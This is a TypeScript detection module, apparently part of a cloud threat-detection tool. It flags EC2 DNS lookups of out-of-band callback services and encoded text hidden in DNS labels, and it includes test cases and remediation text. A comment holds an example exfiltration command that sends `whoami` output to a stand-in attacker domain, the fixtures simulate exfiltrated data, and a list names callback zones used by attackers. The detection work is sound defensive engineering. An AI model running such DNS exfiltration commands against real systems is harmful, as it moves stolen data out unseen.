import type { DnsDetection, NetworkCase } from '../detection.js';
import { dnsQuery } from '../network-records.js';
import { nov, querySeries, resolved } from './dns-cases.js';
import { dnsAction, dnsTypeSpec, type DomainName, domainName, tenantName } from './domain-names.js';

/**
 * Two signals a single Route 53 Resolver query carries, our own types:
 *
 * - **OutOfBandCallbackDomain**: an instance resolves a name under a public out-of-band interaction service
 *   (Burp Collaborator, ProjectDiscovery's interactsh servers, dnslog.cn, ceye.io, Acunetix's bxss.me).
 *   Scanners and exploit kits plant such names in payloads (Log4Shell lookups, SSRF, XXE, blind command
 *   injection); the target resolving one means the payload ran there. Medium; High when labels in front of
 *   the interaction id carry data (`${env:USER}.<id>.oast.fun`, command output sent through the callback).
 *   The services' own sites (the bare zone) are not judged.
 * - **EncodedTextInDnsQuery**: a label under an internet domain, or the labels in front of it joined, decode
 *   (base64, base64url, base32 or hex) to readable text of at least MIN_TEXT characters, as
 *   `nslookup $(whoami | base64).attacker.example` sends. Hashes, ids and hashed CDN labels decode to
 *   random bytes, and 12 random bytes are all printable about once in 150,000 names; real words decode to
 *   bytes above 0x7f. Low: one query moves little; the volume tunnel is Trojan:EC2/DNSDataExfiltration.
 *
 * One finding per instance and domain (the interaction zone, or the tenant's name).
 */
const CALLBACK = 'InitialAccess:EC2/OutOfBandCallbackDomain.Gumshoe';
const ENCODED_TEXT = 'Exfiltration:EC2/EncodedTextInDnsQuery.Gumshoe';

/** Public interaction services whose every subdomain is a callback id handed to a tester or an attacker. */
const CALLBACK_ZONES: ReadonlySet<string> = new Set([
  'oast.pro', 'oast.live', 'oast.site', 'oast.online', 'oast.fun', 'oast.me', 'interact.sh', 'interactsh.com',
  'burpcollaborator.net', 'oastify.com', 'dnslog.cn', 'ceye.io', 'bxss.me', 'requestbin.net',
]);

/** Shortest decoded text that counts, and the share of it that must be letters. */
const MIN_TEXT = 12;
const MIN_LETTER_SHARE = 0.5;

/** The services' own web hosts under their zones, which are not callback ids. */
const SITE_LABELS = new Set(['www', 'app', 'api', 'docs', 'blog']);

/** The interaction zone a name is a callback under, and whether labels in front of the callback id carry data. */
function callback(name: DomainName): { zone: string; carried: boolean } | undefined {
  const zone = name.registered;
  if (zone === null || !CALLBACK_ZONES.has(zone) || name.name === zone) return undefined;
  const labels = name.name.slice(0, -zone.length - 1).split('.');
  if (labels.length === 1 && SITE_LABELS.has(labels[0]!)) return undefined;
  return { zone, carried: labels.length > 1 };
}

const BASE64 = /^[A-Za-z0-9+/_-]+={0,2}$/;
const BASE32 = /^[A-Za-z2-7]+={0,6}$/;
const HEX = /^(?:[0-9a-f]{2})+$/i;
const BASE32_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';

function base32Bytes(text: string): Buffer {
  const bytes: number[] = [];
  let bits = 0;
  let value = 0;
  for (const char of text.replace(/=+$/, '').toUpperCase()) {
    value = (value << 5) | BASE32_ALPHABET.indexOf(char);
    bits += 5;
    if (bits >= 8) {
      bits -= 8;
      bytes.push((value >>> bits) & 0xff);
    }
  }
  return Buffer.from(bytes);
}

function readableText(bytes: Buffer): string | undefined {
  if (bytes.length < MIN_TEXT) return undefined;
  let letters = 0;
  for (const byte of bytes) {
    if ((byte < 0x20 || byte > 0x7e) && byte !== 0x0a && byte !== 0x09 && byte !== 0x0d) return undefined;
    if ((byte | 0x20) >= 0x61 && (byte | 0x20) <= 0x7a) letters++;
  }
  return letters >= bytes.length * MIN_LETTER_SHARE ? bytes.toString('latin1') : undefined;
}

/** The text an encoded payload spells, if it is readable in any of the encodings tried. */
export function decodedText(payload: string): string | undefined {
  if (payload.length < 16) return undefined;
  if (HEX.test(payload)) return readableText(Buffer.from(payload, 'hex'));
  if (BASE64.test(payload) && payload.replace(/=+$/, '').length % 4 !== 1) {
    const text = readableText(Buffer.from(payload, /[-_]/.test(payload) ? 'base64url' : 'base64'));
    if (text !== undefined) return text;
  }
  return BASE32.test(payload) ? readableText(base32Bytes(payload)) : undefined;
}

/** Readable text encoded in the labels in front of a domain: each label alone, then all of them joined. */
function encodedText(labels: string[]): string | undefined {
  for (const label of labels) {
    const text = decodedText(label);
    if (text !== undefined) return text;
  }
  return labels.length > 1 ? decodedText(labels.join('')) : undefined;
}

const printable = (text: string) => JSON.stringify(text.length > 60 ? `${text.slice(0, 60)}…` : text);

const cases = (): NetworkCase[] => [
  {
    name: 'a Log4Shell probe makes the instance resolve an interactsh id, then one with the user name in front (High)',
    dns: [resolved('c59e3crp82ke7bcnedq0cg8y4nyyyyyyb.oast.fun', nov(3, '09:15:00')), resolved('ec2-user.c59e3crp82ke7bcnedq0cg8y4nyyyyyyb.oast.fun', nov(3, '09:15:01'))],
    expect: [CALLBACK],
  },
  { name: 'a Burp Collaborator payload resolved (Medium)', dns: [resolved('x7k2p9q4r8s1t6u3v0w5.oastify.com', nov(3, '09:15:00'))], expect: [CALLBACK] },
  {
    name: 'command output in base64 and in hex sent as labels of an attacker’s domain',
    dns: [
      resolved(`${Buffer.from('uid=0(root) gid=0(root)').toString('base64')}.cb.attacker-lab.net`, nov(3, '09:15:00')),
      resolved(`${Buffer.from('ip-10-0-1-17.ec2.internal').toString('hex')}.cb.attacker-lab.net`, nov(3, '09:15:05')),
    ],
    expect: [ENCODED_TEXT],
  },
  {
    name: 'a secret split over two base32 labels',
    dns: [resolved(`${'ORSXG5DFOIWXAYLTON3W64TEHUQGQ5DU'.slice(0, 16)}.${'ORSXG5DFOIWXAYLTON3W64TEHUQGQ5DU'.slice(16)}.t.exfil-demo.org`, nov(3, '09:15:00'))],
    expect: [ENCODED_TEXT],
  },
  {
    name: 'hashed CDN and SaaS labels, digests and ids that decode to random bytes',
    dns: querySeries(
      [
        'e7d3f1a2b4c6d8e0f2a4b6c8d0e2f4a6.akamaized.net', '4ifgvg5jcq6meu7m4acon5vnfa0kocom.cloudfront.net', 'c2VydmljZXPkuK1pZGVudGlmaWVy.serviceregistry.internal',
        'd41d8cd98f00b204e9800998ecf8427e.malware.hash.cymru.com', 'xn--bcher-kva.example.com', 'documentation-service.api.example.com',
        'prod-eu-west-1-orders-api.elb.example.net', 'aGVsbG8.short.example.com', 'abcdefghijklmnopqrstuvwxyz.example.com',
      ],
      nov(3, '09:15:00'),
      1,
      { answers: [['A', '192.0.2.44']] },
    ),
    expect: [],
  },
  {
    name: 'the interaction services’ own websites, and a look-alike zone',
    dns: [resolved('oast.fun', nov(3, '09:15:00')), resolved('www.interact.sh', nov(3, '09:15:01')), resolved('app.notoast.fun', nov(3, '09:15:02'))],
    expect: [],
  },
  {
    name: 'internal and AWS names holding encoded text are not judged',
    dns: [
      dnsQuery({ name: `${Buffer.from('configuration-service').toString('base64')}.corp.internal`, time: nov(3, '09:15:00') }),
      dnsQuery({ name: `${Buffer.from('configuration-service').toString('hex')}.s3.amazonaws.com`, time: nov(3, '09:15:01') }),
    ],
    expect: [],
  },
];

export const outOfBandCallback: DnsDetection = {
  id: 'dns-out-of-band-callback',
  source: 'dns',
  types: [
    dnsTypeSpec(CALLBACK, 5, { tactic: 'TA0001 Initial Access', technique: 'T1190 Exploit Public-Facing Application' }, {
      title: 'EC2 instance {instance} resolved an out-of-band interaction domain ({zone}).',
      description:
        'EC2 instance {instance} queried {domain}, a name under {zone}, a public service that hands out callback names to testers and attackers. Payloads for Log4Shell, SSRF, XXE and blind command injection carry such names: the lookup means a payload ran on or through this instance.{carried}',
      remediation:
        'Find what on the instance made the lookup (application logs at that time, the request that carried the name) and patch the flaw. If this was not your own authorised scan, treat the instance as compromised: isolate it, rotate its role’s credentials and look for what ran next. Block the zone with Route 53 Resolver DNS Firewall.',
    }),
    dnsTypeSpec(ENCODED_TEXT, 3, { tactic: 'TA0010 Exfiltration', technique: 'T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol' }, {
      title: 'EC2 instance {instance} sent encoded text in a DNS query to {zone}.',
      description:
        'EC2 instance {instance} queried {domain}: labels in front of {zone} decode to the text {text}. Sending command output or files as encoded labels is a way to move data out through DNS, which firewalls rarely block.',
      remediation:
        'Find the process that made the query and what the text is. If the domain is not yours or a vendor’s you use, block it with Route 53 Resolver DNS Firewall and investigate the instance for compromise.',
    }),
  ],
  onDns(query, context) {
    const name = domainName(query.queryName);
    if (name.kind !== 'internet') return;
    const hit = callback(name);
    if (hit) {
      const { zone, carried } = hit;
      context.emit({
        type: CALLBACK,
        event: query,
        action: dnsAction(query),
        resourceRole: 'TARGET',
        severity: carried ? 8 : 5,
        aggregateBy: zone,
        domain: query.queryName,
        vars: { zone, carried: carried ? ' Labels in front of the callback id carry data out of the instance.' : '' },
        additionalInfo: { domain: query.queryName, callbackZone: zone },
      });
      return;
    }
    // Fewer characters in front of the owner's name than any payload that decodes to MIN_TEXT bytes.
    if (name.subdomain.length < 16) return;
    const tenant = tenantName(name);
    if (!tenant || tenant === name.name) return;
    // Base64 is case-sensitive: the labels as logged, not the lower-cased name.
    const logged = query.casedName?.length === name.name.length ? query.casedName : name.name;
    const text = encodedText(logged.slice(0, -tenant.length - 1).split('.'));
    if (text === undefined) return;
    context.emit({
      type: ENCODED_TEXT,
      event: query,
      action: dnsAction(query),
      resourceRole: 'ACTOR',
      aggregateBy: tenant,
      domain: query.queryName,
      vars: { zone: tenant, text: printable(text) },
      additionalInfo: { domain: query.queryName, decodedText: text },
    });
  },
  cases,
};
